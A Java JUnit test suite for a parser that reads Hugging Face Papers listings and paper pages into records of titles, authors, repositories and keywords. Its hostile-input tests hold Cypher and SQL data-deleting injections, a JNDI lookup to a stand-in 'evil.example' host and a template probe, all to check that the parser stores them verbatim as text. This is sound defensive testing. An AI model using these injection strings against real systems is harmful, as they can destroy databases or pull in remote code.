package org.papergraph.ingest;

import java.time.LocalDate;
import java.util.List;

import org.junit.jupiter.api.Test;
import org.papergraph.graph.AuthorRef;
import org.papergraph.graph.PaperRecord;
import org.papergraph.graph.RepositoryRef;
import org.papergraph.testsupport.Fixtures;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.assertj.core.api.Assertions.tuple;

class HuggingFaceParserTest {

	private static Listing parse(String fixture) {
		return HuggingFaceParser.parse(Fixtures.text("fixtures/hf/" + fixture), "https://huggingface.co/papers");
	}

	private static PaperRecord paper(Listing listing, String arxivId) {
		return listing.papers()
			.stream()
			.filter(paper -> arxivId.equals(paper.arxivId()))
			.findFirst()
			.orElseThrow(() -> new AssertionError("No paper " + arxivId));
	}

	@Test
	void readsTheFivePapersOfTheDailyListingOnceEachInPageOrder() {
		Listing listing = parse("daily-listing.html");

		assertThat(listing.kind()).isEqualTo(SourceKind.HF_LISTING);
		assertThat(listing.papers()).extracting(PaperRecord::arxivId)
			.containsExactly("2308.16137", "2402.03300", "2403.03206", "2311.07446", "2403.05577");
		assertThat(listing.warnings()).isEmpty();
	}

	@Test
	void readsEveryFieldOfLmInfinite() {
		PaperRecord paper = paper(parse("daily-listing.html"), "2308.16137");

		assertThat(paper.title())
			.isEqualTo("LM-Infinite: Simple On-the-Fly Length Generalization for Large Language Models");
		assertThat(paper.abstractText()).startsWith("In recent years, there have been remarkable advancements")
			.endsWith("where vanilla models fail immediately.");
		assertThat(paper.publishedAt()).isEqualTo(LocalDate.of(2023, 8, 30));
		assertThat(paper.upvotes()).isEqualTo(23);
		assertThat(paper.comments()).isEqualTo(2);
		assertThat(paper.aiSummary()).startsWith("LM-Infinite lets LLMs trained on short sequences");
		assertThat(paper.keywords()).containsExactly("length generalization", "Lambda-shaped attention mask",
				"relative positional encoding", "passkey retrieval");
		assertThat(paper.projectPage()).isNull();
		assertThat(paper.organization()).isNull();
	}

	@Test
	void keepsAuthorsInOrderWithTheirUsernamesIncludingHiddenOnes() {
		PaperRecord paper = paper(parse("daily-listing.html"), "2308.16137");

		assertThat(paper.authors()).extracting(AuthorRef::name, AuthorRef::username)
			.containsExactly(tuple("Chi Han", "glaciohound"), tuple("Qifan Wang", null), tuple("Hao Peng", "haopeng01"),
					tuple("Wenhan Xiong", null), tuple("Yu Chen", null), tuple("Heng Ji", null),
					tuple("Sinong Wang", null));
	}

	@Test
	void takesTheOfficialRepositoryFromGithubRepoWithItsStars() {
		PaperRecord paper = paper(parse("daily-listing.html"), "2308.16137");

		assertThat(paper.repositories()).singleElement().satisfies(repository -> {
			assertThat(repository.key()).isEqualTo("github.com/glaciohound/lm-infinite");
			assertThat(repository.url()).isEqualTo("https://github.com/Glaciohound/LM-Infinite");
			assertThat(repository.official()).isTrue();
			assertThat(repository.stars()).isEqualTo(412);
		});
	}

	@Test
	void readsTheOrganizationsDisplayName() {
		Listing listing = parse("daily-listing.html");

		assertThat(paper(listing, "2402.03300").organization()).isEqualTo("DeepSeek");
		assertThat(paper(listing, "2402.03300").repositories()).extracting(RepositoryRef::key)
			.containsExactly("github.com/deepseek-ai/deepseek-math");
		assertThat(paper(listing, "2403.03206").organization()).isEqualTo("Stability AI");
	}

	@Test
	void leavesAPaperWithoutRepositoryKeysWithoutRepositoryOrProjectPage() {
		PaperRecord paper = paper(parse("daily-listing.html"), "2403.03206");

		assertThat(paper.title()).isEqualTo("Scaling Rectified Flow Transformers for High-Resolution Image Synthesis");
		assertThat(paper.upvotes()).isEqualTo(71);
		assertThat(paper.repositories()).isEmpty();
		assertThat(paper.projectPage()).isNull();
		assertThat(paper.authors()).extracting(AuthorRef::name).contains("Jonas Müller");
	}

	@Test
	void keepsTheProjectPageApartFromRepositories() {
		PaperRecord paper = paper(parse("daily-listing.html"), "2311.07446");

		assertThat(paper.projectPage()).isEqualTo("https://story2motion.github.io/");
		assertThat(paper.repositories()).isEmpty();
		assertThat(paper.upvotes()).isEqualTo(9);
	}

	@Test
	void findsARepositoryInTheAbstractWithoutItsTrailingDot() {
		PaperRecord paper = paper(parse("daily-listing.html"), "2403.05577");

		assertThat(paper.title()).isEqualTo("Keys & Values: When Retrieval Heads Fail at <1M-Token Contexts");
		assertThat(paper.repositories()).singleElement().satisfies(repository -> {
			assertThat(repository.key()).isEqualTo("github.com/some-org/some-repo");
			assertThat(repository.official()).isFalse();
			assertThat(repository.stars()).isNull();
		});
	}

	@Test
	void readsTheWeeklyListingsUpdatedCounts() {
		Listing listing = parse("weekly-listing.html");

		assertThat(listing.papers()).extracting(PaperRecord::arxivId)
			.containsExactly("2308.16137", "2401.02669", "2011.14522");
		PaperRecord lmInfinite = paper(listing, "2308.16137");
		assertThat(lmInfinite.upvotes()).isEqualTo(30);
		assertThat(lmInfinite.comments()).isEqualTo(3);
		assertThat(lmInfinite.repositories()).extracting(RepositoryRef::stars).containsExactly(418);
		assertThat(paper(listing, "2401.02669").authors()).hasSize(15);
		assertThat(paper(listing, "2401.02669").repositories()).isEmpty();
	}

	@Test
	void mergesTheSameRepositoryFromGithubRepoAndFromTheAbstract() {
		PaperRecord paper = paper(parse("weekly-listing.html"), "2011.14522");

		assertThat(paper.authors()).extracting(AuthorRef::name, AuthorRef::username)
			.containsExactly(tuple("Greg Yang", "thegregyang"), tuple("Edward J. Hu", "edwardjhu"));
		assertThat(paper.abstractText()).contains("github.com/edwardjhu/TP4");
		assertThat(paper.repositories()).singleElement().satisfies(repository -> {
			assertThat(repository.key()).isEqualTo("github.com/edwardjhu/tp4");
			assertThat(repository.official()).isTrue();
			assertThat(repository.stars()).isNotNull();
		});
	}

	@Test
	void readsOnlyThePaperOfAPaperPage() {
		Listing listing = parse("paper-page.html");

		assertThat(listing.kind()).isEqualTo(SourceKind.HF_PAPER);
		assertThat(listing.papers()).singleElement().satisfies(paper -> {
			assertThat(paper.arxivId()).isEqualTo("2401.02669");
			assertThat(paper.title()).isEqualTo(
					"Infinite-LLM: Efficient LLM Service for Long Context with DistAttention and Distributed KVCache");
			assertThat(paper.authors()).hasSize(15);
			assertThat(paper.authors().get(0).name()).isEqualTo("Bin Lin");
			assertThat(paper.authors().get(14).name()).isEqualTo("Wei Lin");
			assertThat(paper.publishedAt()).isEqualTo(LocalDate.of(2024, 1, 5));
			assertThat(paper.upvotes()).isEqualTo(14);
			assertThat(paper.keywords()).containsExactly("DistAttention", "distributed KV cache", "DistKV-LLM",
					"LLM serving", "long context");
		});
	}

	@Test
	void attachesNothingFromOtherHydratersToThePaperOfAPaperPage() {
		Listing listing = parse("paper-page.html");

		assertThat(listing.papers()).extracting(PaperRecord::arxivId)
			.doesNotContain("9999.99999", "0000.00000", "2308.16137");
		assertThat(listing.papers()).extracting(PaperRecord::title).noneMatch(title -> title.startsWith("WRONG"));
		assertThat(listing.papers().get(0).repositories()).isEmpty();
	}

	@Test
	void fallsBackToTheMarkupWhenThePageHasNoHydrationData() {
		Listing listing = parse("markup-only.html");

		assertThat(listing.kind()).isEqualTo(SourceKind.HF_MARKUP);
		assertThat(listing.papers()).extracting(PaperRecord::arxivId, PaperRecord::title)
			.containsExactly(
					tuple("2308.16137",
							"LM-Infinite: Simple On-the-Fly Length Generalization for Large Language Models"),
					tuple("2305.16300", "Landmark Attention: Random-Access Infinite Context Length for Transformers"),
					tuple("2104.07857",
							"ZeRO-Infinity: Breaking the GPU Memory Wall for Extreme Scale Deep Learning"));
		assertThat(listing.papers()).allSatisfy(paper -> assertThat(paper.repositories()).isEmpty());
	}

	@Test
	void warnsAboutAListingWithoutPapersInsteadOfFailing() {
		Listing listing = parse("no-papers.html");

		assertThat(listing.kind()).isEqualTo(SourceKind.HF_LISTING);
		assertThat(listing.papers()).isEmpty();
		assertThat(listing.warnings()).singleElement().asString().contains("no papers");
	}

	@Test
	void refusesAListingWhoseJsonIsCutOff() {
		assertThatThrownBy(() -> parse("bad-json.html")).isInstanceOf(IngestException.class)
			.hasMessageContaining("DailyPapers")
			.hasMessageContaining("not valid JSON")
			.hasMessageContaining("nothing was ingested");
	}

	@Test
	void saysAPageThatEndsInsideItsListingDataIsCutOff() {
		String page = Fixtures.text("fixtures/hf/daily-listing.html");
		String truncated = page.substring(0, page.indexOf("data-target=\"DailyPapers\"") + 2_000);

		assertThatThrownBy(() -> HuggingFaceParser.parse(truncated, null)).isInstanceOf(IngestException.class)
			.hasMessageContaining("DailyPapers data is cut off")
			.hasMessageContaining("nothing was ingested");
	}

	@Test
	void ignoresUnknownFieldsAndFieldsOfUnexpectedTypes() {
		String props = """
				{"dailyPapers":[{"numComments":"4","futureField":{"a":[1,2]},"paper":{"id":"2401.00001v3",
				"title":"A Paper","summary":"An abstract.","authors":"not a list","upvotes":"12","ai_keywords":{"x":1},
				"githubRepo":42,"unknownArray":[{"deep":true}]}}],"somethingNew":true}""";
		String html = "<div class=\"SVELTE_HYDRATER contents\" data-target=\"DailyPapers\" data-props=\""
				+ props.replace("&", "&amp;").replace("\"", "&quot;") + "\"></div>";

		Listing listing = HuggingFaceParser.parse(html, null);

		assertThat(listing.papers()).singleElement().satisfies(paper -> {
			assertThat(paper.arxivId()).isEqualTo("2401.00001");
			assertThat(paper.title()).isEqualTo("A Paper");
			assertThat(paper.upvotes()).isEqualTo(12);
			assertThat(paper.comments()).isEqualTo(4);
			assertThat(paper.authors()).isEmpty();
			assertThat(paper.keywords()).isEmpty();
			assertThat(paper.repositories()).isEmpty();
		});
	}

	@Test
	void refusesAPageThatIsNotAPapersPage() {
		assertThatThrownBy(() -> HuggingFaceParser.parse("<html><body><p>Hello</p></body></html>", null))
			.isInstanceOf(IngestException.class)
			.hasMessageContaining("not a Hugging Face Papers page");
	}

	@Test
	void storesHostileTitlesAndAbstractsAsTextWithoutMarkup() {
		PaperRecord paper = paper(parse("hostile.html"), "2403.06601");

		assertThat(paper.title()).doesNotContainIgnoringCase("<script")
			.contains("Scaling Attention to Infinite Context");
		assertThat(paper.abstractText()).doesNotContainIgnoringCase("<script")
			.doesNotContainIgnoringCase("<img")
			.contains("attention over unbounded inputs");
		assertThat(paper.authors()).extracting(AuthorRef::name)
			.containsExactly("Eve Mallory", "Trent O'Neil");
		assertThat(paper.keywords()).containsExactly("infinite context");
	}

	@Test
	void rejectsJavascriptRepositoryAndProjectPage() {
		PaperRecord paper = paper(parse("hostile.html"), "2403.06601");

		assertThat(paper.repositories()).isEmpty();
		assertThat(paper.projectPage()).isNull();
	}

	@Test
	void keepsInjectionLookingTextVerbatim() {
		PaperRecord paper = paper(parse("hostile.html"), "2403.06602");

		assertThat(paper.title()).isEqualTo("Robby' WITH true as ignored MATCH (s) DETACH DELETE s; //");
		assertThat(paper.authors()).extracting(AuthorRef::name)
			.containsExactly("Robert'); DROP TABLE papers;--", "Bobby \"Tables\" Smith");
		assertThat(paper.abstractText()).startsWith("\"}) MATCH (n) DETACH DELETE n //")
			.contains("Backslashes \\ and ${jndi:ldap://evil.example/a} and {{7*7}} must be stored verbatim.");
		assertThat(paper.keywords()).containsExactly("'; MATCH (n) DETACH DELETE n; //");
	}

	@Test
	void rejectsAGithubRepoOnAnotherHostAndNormalizesATraversingLink() {
		PaperRecord paper = paper(parse("hostile.html"), "2403.06602");

		assertThat(paper.repositories()).extracting(RepositoryRef::key, RepositoryRef::official)
			.containsExactly(tuple("github.com/some-org/some-repo", false));
	}

	@Test
	void refusesAnEmptyPage() {
		assertThatThrownBy(() -> HuggingFaceParser.parse("  ", null)).isInstanceOf(IngestException.class)
			.hasMessageContaining("empty");
	}

	@Test
	void keepsAPaperListedTwiceOnce() {
		String entry = "{&quot;paper&quot;:{&quot;id&quot;:&quot;2401.00001&quot;,&quot;title&quot;:&quot;Same&quot;}}";
		String html = "<div data-target=\"DailyPapers\" data-props=\"{&quot;dailyPapers&quot;:[" + entry + ","
				+ entry + "]}\"></div>";

		List<PaperRecord> papers = HuggingFaceParser.parse(html, null).papers();

		assertThat(papers).extracting(PaperRecord::arxivId).containsExactly("2401.00001");
	}

}
